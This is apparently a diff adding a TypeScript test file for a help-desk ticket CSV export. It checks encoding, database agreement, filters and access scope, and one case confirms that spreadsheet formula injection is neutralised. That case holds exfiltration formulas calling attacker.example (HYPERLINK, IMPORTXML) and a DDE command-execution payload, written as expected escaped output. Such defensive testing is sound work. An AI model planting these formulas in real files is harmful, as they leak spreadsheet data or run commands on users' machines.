@@ -1,0 +1,151 @@
+// GET /tickets/export: the CSV parsed back and compared with the database; scope and filters;
+// case 16 (formula injection).
+import fs from "node:fs";
+import { parse } from "csv-parse/sync";
+import { and, eq, inArray, sql } from "drizzle-orm";
+import { simpleParser } from "mailparser";
+import { beforeAll, describe, expect, it } from "vitest";
+import { createTestDb } from "@/db/testing";
+import { departments, tickets, users } from "@/db/schema";
+import type { TicketDetail } from "@/lib/tickets";
+import { setupTestAuth, staffRequest } from "@/test/auth";
+import { createUser } from "@/test/factories";
+import { api } from "@/test/staff-api";
+import { type Cast, createStaff, seedStaffCast } from "@/test/staff-factory";
+import { addAttachment, addEntry, createTicket } from "@/test/ticket-factory";
+import { GET as getTicket } from "../[tid]/route";
+import { GET } from "./route";
+
+setupTestAuth();
+const { db } = await createTestDb();
+let cast: Cast;
+beforeAll(async () => {
+  cast = await seedStaffCast(db);
+});
+
+async function exportCsv(as: Cast["admin"], query = "") {
+  const res = await GET(await staffRequest(`/api/staff/tickets/export${query}`, { as }));
+  const bytes = Buffer.from(await res.arrayBuffer());
+  const text = bytes.toString("utf8");
+  const records = res.status === 200 ? (parse(text, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[]) : [];
+  return { res, bytes, text, records };
+}
+
+describe("GET /tickets/export", () => {
+  let exporter: Awaited<ReturnType<typeof createStaff>>;
+  const ids: number[] = [];
+  beforeAll(async () => {
+    exporter = await createStaff(db, { deptIds: [cast.support.id], name: "Exporter" });
+    for (let i = 0; i < 25; i++) {
+      const t = await createTicket(db, { deptId: cast.support.id, subject: `Export me ${i}`, staffId: i % 3 === 0 ? exporter.id : null, status: i % 4 === 0 ? "closed" : "open" });
+      if (i % 5 === 0) {
+        const e = await addEntry(db, { ticketId: t.id, type: "response", staffId: exporter.id, text: "Reply" });
+        await addAttachment(db, { ticketId: t.id, entryId: e.id, name: `f${i}.txt`, bytes: Buffer.from(`file ${i}`) });
+      }
+      ids.push(t.id);
+    }
+    await createTicket(db, { deptId: cast.billing.id, subject: "Billing only" });
+    const gone = await createTicket(db, { deptId: cast.support.id, subject: "Deleted one" });
+    await db.update(tickets).set({ status: "deleted", deletedAt: new Date() }).where(eq(tickets.id, gone.id));
+  });
+
+  it("streams UTF-8 with BOM, CRLF rows and a dated file name, and every row matches the database", async () => {
+    const { res, bytes, text, records } = await exportCsv(exporter, "?queue=support");
+    expect(res.status).toBe(200);
+    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="support-\d{8}\.csv"$/);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(text.split("\r\n").length).toBe(records.length + 2);
+    const dbRows = await db
+      .select({
+        number: tickets.number,
+        subject: tickets.subject,
+        status: tickets.status,
+        dept: departments.name,
+        email: users.email,
+        threadCount: sql<number>`(SELECT count(*)::int FROM thread_entries e WHERE e.ticket_id = ${tickets.id})`,
+        attachmentCount: sql<number>`(SELECT count(*)::int FROM attachments a WHERE a.ticket_id = ${tickets.id})`,
+        assignee: sql<string | null>`(SELECT name FROM staff s WHERE s.id = ${tickets.staffId})`,
+        created: tickets.createdAt,
+      })
+      .from(tickets)
+      .innerJoin(departments, eq(departments.id, tickets.deptId))
+      .innerJoin(users, eq(users.id, tickets.userId))
+      .where(and(eq(tickets.deptId, cast.support.id), sql`${tickets.status} <> 'deleted'`))
+      .orderBy(sql`${tickets.id} DESC`);
+    expect(records.map((r) => r["Ticket Number"])).toEqual(dbRows.map((r) => r.number));
+    records.forEach((r, i) => {
+      const d = dbRows[i];
+      expect(r).toMatchObject({
+        Subject: d.subject,
+        "Current Status": d.status,
+        Department: d.dept,
+        "From Email": d.email,
+        "Thread Count": String(d.threadCount),
+        "Attachment Count": String(d.attachmentCount),
+        "Agent Assigned": d.assignee ?? "",
+        "Date Created (UTC)": d.created.toISOString().slice(0, 19).replace("T", " "),
+      });
+    });
+    expect(records.some((r) => r.Subject === "Billing only" || r.Subject === "Deleted one")).toBe(false);
+  });
+
+  it("applies the filters and a chosen column subset", async () => {
+    const { records } = await exportCsv(exporter, "?status=any_open&staffId=me&columns=number,subject,assignee");
+    const expected = await db
+      .select({ number: tickets.number })
+      .from(tickets)
+      .where(and(inArray(tickets.id, ids), eq(tickets.staffId, exporter.id), sql`${tickets.status} = 'open'`));
+    expect(records.map((r) => r["Ticket Number"]).sort()).toEqual(expected.map((r) => r.number).sort());
+    expect(Object.keys(records[0])).toEqual(["Ticket Number", "Subject", "Agent Assigned"]);
+  });
+
+  it("exports only what the caller may see", async () => {
+    const { records } = await exportCsv(cast.agentB);
+    expect(records.map((r) => r.Subject)).toEqual(["Billing only"]);
+  });
+
+  it("names a bad filter", async () => {
+    const res = await api(exporter).get(GET, "/api/staff/tickets/export?columns=number,password", {});
+    expect(res.status).toBe(400);
+    expect(Object.keys(res.json.errors!)).toEqual(["columns.1"]);
+  });
+});
+
+// Case 16 (test/fixtures/cases/16-csv-formula-injection). The tickets are inserted with the
+// request and mail values byte for byte; this product has no tags (expected.md skips them).
+describe("case 16: CSV export neutralises spreadsheet formulas", () => {
+  const dir = "test/fixtures/cases/16-csv-formula-injection";
+  it("writes the expected raw fields and keeps the original text in the API", async () => {
+    const admin2 = await createStaff(db, { role: "admin", name: "Case Admin" });
+    const dept = (await db.insert(departments).values({ name: "Case 16" }).returning())[0];
+    const made: number[] = [];
+    for (const f of ["request-1.json", "request-2.json", "request-3.json"]) {
+      const r = JSON.parse(fs.readFileSync(`${dir}/${f}`, "utf8"));
+      const u = await createUser(db, r.email, r.name);
+      made.push((await createTicket(db, { deptId: dept.id, userId: u.id, subject: r.subject, message: r.message })).id);
+    }
+    const mail = await simpleParser(fs.readFileSync(`${dir}/input-email.eml`));
+    const from = mail.from!.value[0];
+    const u = await createUser(db, from.address!, from.name);
+    made.push((await createTicket(db, { deptId: dept.id, userId: u.id, subject: mail.subject!, message: mail.text! })).id);
+
+    const { text, records } = await exportCsv(admin2, `?deptId=${dept.id}`);
+    expect(records).toHaveLength(4);
+    expect(text).toContain(`"'=HYPERLINK(""https://attacker.example/?leak=""&A2,""Click for details"")"`);
+    expect(text).toContain(`'+1 555 0100 Ops`);
+    expect(text).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(text).toContain(`"'\t=1+1"`);
+    expect(text).toContain(`'-5 degrees in the server room`);
+    expect(text).toContain(`"'=IMPORTXML(CONCAT(""https://attacker.example/?d="",A1),""//a"")"`);
+    expect(text).toContain(`,'=1+2,`);
+    expect(text).toContain(`"Line one\nLine two, with comma and ""quotes"""`);
+    expect(text.endsWith("\r\n")).toBe(true);
+    // Every data row has every column (a quoted newline does not split a row).
+    expect(new Set(records.map((r) => Object.keys(r).length)).size).toBe(1);
+
+    const view = await api(admin2).get<TicketDetail>(getTicket, `/api/staff/tickets/${made[0]}`, { tid: String(made[0]) });
+    expect(view.json.data!.subject).toBe('=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")');
+    expect(view.json.data!.user.name).toBe("+1 555 0100 Ops");
+  });
+});
